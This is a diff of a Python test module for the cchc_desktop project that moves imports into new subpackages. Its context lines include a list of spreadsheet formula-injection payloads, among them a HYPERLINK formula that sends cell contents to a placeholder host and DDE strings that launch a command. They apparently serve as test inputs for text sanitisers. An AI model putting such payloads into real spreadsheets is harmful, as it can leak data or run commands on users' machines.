@@ -8,12 +8,12 @@ import zipfile
 import openpyxl
 import pytest
 
-from cchc_desktop import evidence_docs, report_docs
-from cchc_desktop import report as rp
-from cchc_desktop.domain import Appendix, Plan, Task, TaskStatus
-from cchc_desktop.progress import ProgressEntry, ProgressService
-from cchc_desktop.render.office_docs import render_appendix_office
-from cchc_desktop.safetext import XLSX_MAX_CHARS, cell_text, ics_text, xml_text
+from cchc_desktop.documents import evidence_docs, report_docs
+from cchc_desktop.documents.render.office_docs import render_appendix_office
+from cchc_desktop.reporting import report as rp
+from cchc_desktop.store.domain import Appendix, Plan, Task, TaskStatus
+from cchc_desktop.store.progress import ProgressEntry, ProgressService
+from cchc_desktop.text.safetext import XLSX_MAX_CHARS, cell_text, ics_text, xml_text
 
 FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)"]
